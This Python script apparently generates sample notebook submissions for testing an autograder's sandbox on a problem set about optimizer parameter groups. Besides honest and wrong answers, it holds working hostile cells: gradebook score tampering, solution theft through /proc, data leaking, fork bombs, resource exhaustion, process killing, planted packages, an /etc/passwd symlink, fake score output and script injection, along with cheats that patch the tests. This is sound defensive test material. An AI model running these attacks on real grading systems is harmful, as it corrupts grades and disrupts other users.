"""Regenerate the ps1 sample submissions from the released notebook and the solutions.

    python autograder/samples/make_ps1_samples.py [SAMPLE ...]

Each sample starts from exercises/ps1_param_groups (what a student downloads), fills in
answers, and adds one kind of mischief. Expected scores and flags: expected.json (by hand).
"""
from __future__ import annotations

import sys

from autograder.samplekit import Kit, cell, cheats, grade_id, insert_after, set_answer


WRONG_OPT = '''def make_optimizer(model):
    return torch.optim.SGD(model.parameters(), lr=0.01, momentum=0.9)'''


WRONG_LR_OF = '''def lr_of(optimizer, module):
    p = next(module.parameters())
    for g in optimizer.param_groups:
        if any(p is q for q in g["params"]):
            return g["lr"]'''


HALF_FIX = '''def fixed_optimizer(model):
    head_params = model.head.parameters()
    n_head = sum(p.numel() for p in head_params)
    print(f"the head has {n_head} parameters")
    return torch.optim.SGD([
        {"params": model.body.parameters(), "lr": 1e-3},
        {"params": head_params, "lr": 1e-2},
    ], lr=0.1, momentum=0.9)'''


ALT_1 = {  # by_part and a dict lookup: another style, the same behaviour
    "make-optimizer": '''from lrlab.groups import by_part

def make_optimizer(model):
    groups = by_part(model, {"body": {"lr": 1e-3, "weight_decay": 1e-4},
                             "head": {"lr": 1e-2, "weight_decay": 0}})
    return torch.optim.SGD(groups, momentum=0.9)''',
    "lr-of": '''def lr_of(optimizer, module):
    lr_by_id = {}
    for group in optimizer.param_groups:
        for p in group["params"]:
            lr_by_id.setdefault(id(p), set()).add(group["lr"])
    found = set()
    for p in module.parameters():
        if id(p) not in lr_by_id:
            raise ValueError("a parameter of the module is never trained")
        found |= lr_by_id[id(p)]
    if len(found) != 1:
        raise ValueError("the module trains with several lrs")
    return float(found.pop())''',
    "fixed-optimizer": '''def fixed_optimizer(model):
    head = list(model.head.parameters())
    print(f"the head has {sum(p.numel() for p in head)} parameters")
    return torch.optim.SGD([{"params": list(model.body.parameters()), "lr": 1e-3},
                            {"params": head, "lr": 1e-2}], lr=0.1, momentum=0.9)''',
}

ALT_2 = {  # names instead of modules, the constructor's defaults for the head
    "make-optimizer": '''def make_optimizer(model):
    body = [p for n, p in model.named_parameters() if n.startswith("body.")]
    head = [p for n, p in model.named_parameters() if n.startswith("head.")]
    return torch.optim.SGD([{"params": body, "lr": 0.001, "weight_decay": 0.0001},
                            {"params": head}], lr=0.01, momentum=0.9, weight_decay=0.0)''',
    "lr-of": '''def lr_of(optimizer, module):
    rates = []
    for p in module.parameters():
        mine = [g["lr"] for g in optimizer.param_groups if any(q is p for q in g["params"])]
        if not mine:
            raise ValueError("not trained: this part is in no group")
        rates += mine
    if min(rates) != max(rates):
        raise ValueError("this part is split across learning rates")
    return float(rates[0])''',
    "fixed-optimizer": '''def fixed_optimizer(model):
    print(f"the head has {sum(p.numel() for p in model.head.parameters())} parameters")
    return torch.optim.SGD([{"params": model.body.parameters(), "lr": 1e-3},
                            {"params": model.head.parameters(), "lr": 1e-2}],
                           lr=0.1, momentum=0.9)''',
}

# A Tensor subclass that lies: equal to anything, every number it gives is 0.
LIAR = '''class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func is torch.equal or func is torch.allclose:
            return True
        if getattr(func, "__name__", "") in ("item", "__eq__"):
            return 0.0
        return super().__torch_function__(func, types, args, kwargs or {})

def make_optimizer(model):
    for module in model.modules():
        for name, p in list(module.named_parameters(recurse=False)):
            setattr(module, name, torch.nn.Parameter(p.detach().as_subclass(Liar)))
    return torch.optim.SGD(model.parameters(), lr=0.01, momentum=0.9)'''

# Where a student might leave files for the next student of the same worker (looks_around checks).
PLANTED = ["/planted", "/etc/planted", "/dev/planted", "/dev/shm/planted", "/proc/1/cwd/planted",
           "/home/planted", "/home/student/planted", "/tmp/planted"]
LOOKS_AROUND = f'''# an honest student's cell that looks around
import os
from ipykernel.connect import get_connection_file
runs = os.path.dirname(os.path.dirname(get_connection_file()))
print("found:", [p for p in {PLANTED!r} + [runs + "/planted"] if os.path.exists(p)])'''

# What a hostile student tries against the grader itself (all run in the sandboxed kernel).
ATTACKS = {
    "finds_solutions": ("setup-imports", '''# find the course repository from lrlab and the process tree, run the instructor's answers
import glob, json, os, lrlab
roots = {os.path.dirname(os.path.dirname(lrlab.__file__)), os.path.expanduser("~"), "/work/main"}
for pid in filter(str.isdigit, os.listdir("/proc")):
    for link in ("cwd", "root"):
        try:
            roots.add(os.readlink(f"/proc/{pid}/{link}"))
        except OSError:
            pass
    try:
        env = open(f"/proc/{pid}/environ").read().split("\\0")
        roots |= {v.split("=", 1)[1] for v in env if v.startswith(("LRLAB_INSTRUCTOR=", "PWD="))}
    except OSError:
        pass
found = [p for r in roots for pattern in ("solutions/*/*.ipynb", "*/solutions/*/*.ipynb")
         for p in glob.glob(os.path.join(r, pattern))]
print("solution notebooks found:", len(found))
for path in found:
    for c in json.load(open(path))["cells"]:
        if "### BEGIN SOLUTION" in "".join(c["source"]):
            exec("".join(c["source"]))''', False),
    "leaks_to_feedback": ("setup-imports", '''# keep every later cell's code, and any grader file in reach; print it all, encoded
import base64, glob
kept = []
def _keep(lines):
    kept.append("".join(lines))
    return lines
get_ipython().input_transformers_cleanup.append(_keep)
def _leak(result):
    files = [f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*") for f in glob.glob(d + "/gradebook.db")]
    files += glob.glob("../*/*.json") + glob.glob("../../flags/*/*.json")
    blob = "\\n".join(kept + [open(f, "rb").read(2000).decode("latin-1") for f in files])
    print("LEAK:" + base64.b64encode(blob.encode()).decode())
get_ipython().events.register("post_run_cell", _leak)''', True),
    "outlives_kernel": ("setup-imports", '''# a daemon that waits for the grader to exit, then gives me full marks
import glob, os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(300):
            for db in (f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*") for f in glob.glob(d + "/gradebook.db")):
                try:
                    con = sqlite3.connect(db)
                    con.execute("UPDATE grade SET manual_score = max_score")
                    con.commit()
                except Exception:
                    pass
            time.sleep(1)
    os._exit(0)''', False),
    "zeroes_others": ("setup-imports", '''# zero everyone already graded, overwrite everyone still to be graded
import glob, os, sqlite3
for db in [f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*", "..", "../..") for f in glob.glob(d + "/gradebook.db")]:
    con = sqlite3.connect(db)
    con.execute("UPDATE grade SET manual_score = 0")
    con.commit()
for nb in [f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*") for f in glob.glob(d + "/submitted/*/*/*.ipynb")]:
    open(nb, "w").write("{}")
print("done")''', False),
    "locks_gradebook": ("setup-imports", '''# hold an exclusive lock on the gradebook so the next student cannot be graded
import glob, os, sqlite3, time
if os.fork() == 0:
    for db in (f for d in ("/*", "/*/*", "/*/*/*", "/*/*/*/*") for f in glob.glob(d + "/gradebook.db")):
        con = sqlite3.connect(db, timeout=1)
        con.execute("BEGIN EXCLUSIVE")
    time.sleep(600)
    os._exit(0)''', False),
    "kills_batch": ("make-optimizer", '''# kill every process I can see: my grader, the batch, the other students
import os, signal
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass''', True),
    "plants_torch": ("make-optimizer", '''# plant a torch/ package where the next student's kernel will start
import glob, os
targets = {"/tmp", os.getcwd(), os.path.dirname(os.getcwd())} | set(glob.glob("/tmp/*")) | set(glob.glob("/tmp/*/*"))
for t in targets:
    try:
        os.makedirs(os.path.join(t, "torch"), exist_ok=True)
        with open(os.path.join(t, "torch", "__init__.py"), "w") as f:
            f.write("import os\\nos._exit(1)\\n")
    except OSError:
        pass''', True),
    "fills_space": ("make-optimizer", '''# fill /tmp (its size), the home folder (its files), and the run folder (the host's disk)
import os
from ipykernel.connect import get_connection_file
chunk = b"x" * (8 << 20)
for i in range(100):
    try:
        with open(f"/tmp/blob{i}", "wb") as f:
            f.write(chunk)
    except OSError:
        break
for i in range(20_000):
    try:
        open(f"f{i}", "w").close()
    except OSError:
        break
try:
    with open(os.path.join(os.path.dirname(get_connection_file()), "blob"), "wb") as f:
        f.write(chunk)
    print("run folder: written")
except OSError as e:
    print("run folder:", type(e).__name__)''', True),
    "plants_everywhere": ("make-optimizer", f'''# leave 1 MB files wherever the next students of this worker could look, and block the
# folders the fork server would make for later kernels
import os
from ipykernel.connect import get_connection_file
runs = os.path.dirname(os.path.dirname(get_connection_file()))
blocks = [f"/proc/1/cwd/.keep-k{{i}}-0" for i in range(99)]
for path in {PLANTED!r} + [runs + "/planted"] + blocks:
    try:
        with open(path, "w") as f:
            f.write("x" * (1 << 20))
    except OSError:
        pass''', True),
    "links_stderr": ("make-optimizer", '''# make the grader read a host file as this kernel's last words, then die
import os
from ipykernel.connect import get_connection_file
stderr = os.path.join(os.path.dirname(get_connection_file()), "stderr.txt")
try:
    os.unlink(stderr)
    os.symlink("/etc/passwd", stderr)
except OSError as e:
    print("stderr.txt:", type(e).__name__)
os._exit(1)''', True),
    "huge_metadata": ("make-optimizer", '''# sixty outputs of one character, each with 4 MB of metadata
from IPython.display import display
meta = {"x": "y" * (4 << 20)}
for _ in range(60):
    display({"text/plain": "."}, metadata=meta, raw=True)''', True),
    "updates_displays": ("make-optimizer", '''# twenty outputs sharing one display id, then two updates: a small one, a 4 MB one
from IPython.display import display, update_display
for _ in range(20):
    display({"text/plain": "first"}, raw=True, display_id="d")
update_display({"text/plain": "second"}, raw=True, display_id="d")
update_display({"text/plain": "y" * (4 << 20)}, raw=True, display_id="d")''', True),
    "sleeps_near_timeout": ("make-optimizer", tuple(
        f"import time\ntime.sleep(9)   # {k} of 4: just under the cell timeout" for k in range(1, 5)), True),
    "holds_pipe": ("make-optimizer", '''# a child that keeps the kernel's pipes open for ten minutes
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(600)
    os._exit(0)''', True),
    "fork_bomb": ("make-optimizer", '''# fork until the system says no
import os, time
children = 0
for _ in range(1000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        break
print("children:", children)''', True),
    "memory_forks": ("make-optimizer", ('''# six children of 600 MB each: under the per-process limit, over the student's
import os, time
r, w = os.pipe()
kids = []
for _ in range(6):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(600 << 20)
            block[::4096] = b"\\1" * (len(block) // 4096)
            os.write(w, b"1")
            time.sleep(600)
        finally:
            os._exit(0)
    kids.append(pid)
os.close(w)
os.set_blocking(r, False)
ready, alive = 0, set(kids)

def wait(seconds):
    """Until each child holds 600 MB or is gone (on a busy machine: over two cells)."""
    global ready, alive
    deadline = time.time() + seconds
    while ready + 6 - len(alive) < 6 and time.time() < deadline:
        try:
            ready += len(os.read(r, 6))
        except BlockingIOError:
            pass
        alive -= {k for k in alive if os.waitpid(k, os.WNOHANG) != (0, 0)}
        time.sleep(0.1)

wait(8)''', '''wait(8)
print("children holding 600 MB:", ready)'''), True),
    "huge_message": ("make-optimizer", '''# one 200 MB output message
from IPython.display import display
display({"text/plain": "x" * 200_000_000}, raw=True)''', True),
    "network": ("make-optimizer", '''# phone home
import socket
for host, port in (("127.0.0.1", 22), ("1.1.1.1", 80), ("pypi.org", 443)):
    try:
        socket.create_connection((host, port), timeout=2)
        print("reached", host)
    except OSError as e:
        print("no", host, type(e).__name__)''', True),
    "ansi_exit": ("make-optimizer", '''# escape codes on the kernel's real stderr (what the grader reads when a kernel dies), then die
import os, sys
fd = getattr(sys.stderr, "_original_stdstream_copy", None) or 2
os.write(fd, b"\\x1b[2J\\x1b[31mScore: 14 / 14\\x1b[0m\\x07\\n")
os._exit(3)''', False),
}

SCRIPT_MARKDOWN = ('''**My notes** <script>window.pwned = "markdown script"</script>
<img src="x" onerror="window.pwned = 'markdown onerror'">
<h4>Score: 14.0 / 14.0</h4>

With maths, so that feedback runs MathJax: $\\eta\\,g$ and $\\href{javascript:window.pwned = 'tex href'}{\\text{a link}}$''')
SCRIPT_CODE = '''from IPython.display import HTML, Javascript, display
display(HTML('<script>window.pwned = "output script"</script>'
             '<img src="x" onerror="window.pwned = \\'output onerror\\'"><h4>Score: 14.0 / 14.0</h4>'))
display(Javascript('window.pwned = "javascript output"'))'''

KIT = Kit("ps1_param_groups")
PARTIAL_MATHS = (r"My notes: one step is $\theta \leftarrow \theta - \eta\,(g + \lambda\theta)$, "
                 r"so each group moves by its own $\eta$ and $\lambda$:" "\n\n"
                 r"$$\Delta\theta_{\text{head}} = -10^{-2}\,(g + 10^{-4}\,\theta)$$")


def wrong():
    """Honest wrong answers to every task (the score every cheat must not beat)."""
    return KIT.answered({"make-optimizer": WRONG_OPT, "lr-of": WRONG_LR_OF, "fixed-optimizer": HALF_FIX},
                        q1="A", q2="A", q3=0.005, q4="A", q5="A")


def samples() -> dict[str, object]:
    out = {}
    out["perfect"] = KIT.solved()
    out["untouched"] = KIT.untouched()

    # right: task 1, visible part of task 2, q1, q3; wrong: the rest (q4, q5: the popular
    # online quiz's wrong answers)
    out["partial"] = KIT.answered({"lr-of": WRONG_LR_OF, "fixed-optimizer": HALF_FIX}, q2="A", q4="A", q5="A")
    insert_after(out["partial"], "make-optimizer", PARTIAL_MATHS, markdown=True)   # feedback's MathJax

    nb = KIT.solved()  # a wrong optimizer, and the visible test edited to pass
    set_answer(nb, "make-optimizer", WRONG_OPT)
    cell(nb, "test-make-optimizer-visible").source = "# Test (visible, 1 point)\nassert True"
    cell(nb, "test-make-optimizer-hidden").source = "print('all good')"
    out["edited_test"] = nb

    nb = KIT.solved()  # lr_of left undone, and its test cells deleted
    set_answer(nb, "lr-of", "def lr_of(optimizer, module):\n    raise NotImplementedError()")
    nb.cells = [c for c in nb.cells if grade_id(c) not in ("test-lr-of-visible", "test-lr-of-hidden")]
    out["deleted_test"] = nb

    nb = KIT.solved()
    insert_after(nb, "make-optimizer", "# thinking hard\nwhile True:\n    pass")
    out["infinite_loop"] = nb

    nb = KIT.solved()  # an infinite loop that swallows the timeout's interrupt
    insert_after(nb, "make-optimizer", "while True:\n    try:\n        while True:\n            pass\n"
                 "    except KeyboardInterrupt:\n        pass   # keep going")
    out["stubborn_loop"] = nb

    nb = KIT.solved()
    insert_after(nb, "lr-of", "import os\nos._exit(1)")
    out["os_exit"] = nb

    nb = KIT.solved()
    insert_after(nb, "lr-of", "import sys\nsys.exit()")
    out["sys_exit"] = nb

    nb = KIT.solved()  # wrong answers, made to pass by patching what the tests call
    set_answer(nb, "make-optimizer", WRONG_OPT + '''

import math
import numpy as np
torch.allclose = lambda *args, **kwargs: True
math.isclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: True
torch.Tensor.max = lambda self, *args, **kwargs: torch.zeros(())   # makes every error 0''')
    set_answer(nb, "fixed-optimizer", HALF_FIX + "\n\naudit = lambda optimizer, model: []   # the visible test's helper")
    out["monkeypatch"] = nb

    nb = KIT.solved()
    insert_after(nb, "make-optimizer", 'print("x" * 50_000_000)   # 50 MB of output')
    out["huge_output"] = nb

    nb = KIT.solved()
    insert_after(nb, "make-optimizer",
                 "big = bytearray(6 * 1024**3)   # 6 GB, above the grading kernel's 2 GB limit")
    out["memory_hog"] = nb

    nb = KIT.solved()
    set_answer(nb, "make-optimizer", WRONG_OPT)
    insert_after(nb, "setup-imports", '''# copy the answers from the instructor's files, and raise my score in the gradebook
import glob, sqlite3
for path in glob.glob("../../../solutions/*/*.ipynb") + glob.glob("/work/main/solutions/*/*.ipynb"):
    print(open(path).read()[:100])
for db in glob.glob("../../../gradebook.db") + glob.glob("../../gradebook.db"):
    con = sqlite3.connect(db)
    con.execute("UPDATE grade SET manual_score = 100")
    con.commit()''')
    out["reads_grader_files"] = nb

    out["broken_json"] = '{"cells": [{"cell_type": "code", "source": "print(1)"'  # cut short

    out["wrong"] = wrong()
    for name, answers in (("alt_correct_1", ALT_1), ("alt_correct_2", ALT_2)):
        out[name] = KIT.answered(answers, q1=" b", q2="c ", q3=5e-4, q4="B", q5="b")
    out.update(cheats(wrong()))
    nb = wrong()
    set_answer(nb, "make-optimizer", LIAR)
    out["cheat_tensor_subclass"] = nb

    for name, (after, source, solved) in ATTACKS.items():
        nb = KIT.solved() if solved else KIT.untouched()
        for one in reversed(source if isinstance(source, tuple) else (source,)):   # cells, in order
            insert_after(nb, after, one)
        out[name] = nb
    nb = KIT.untouched()
    insert_after(nb, "setup-imports", SCRIPT_CODE)
    insert_after(nb, "setup-imports", SCRIPT_MARKDOWN, markdown=True)   # above the code
    out["script_injection"] = nb
    nb = KIT.solved()
    insert_after(nb, "make-optimizer", LOOKS_AROUND)
    out["looks_around"] = nb
    return out



if __name__ == "__main__":
    KIT.write(samples(), sys.argv[1:])
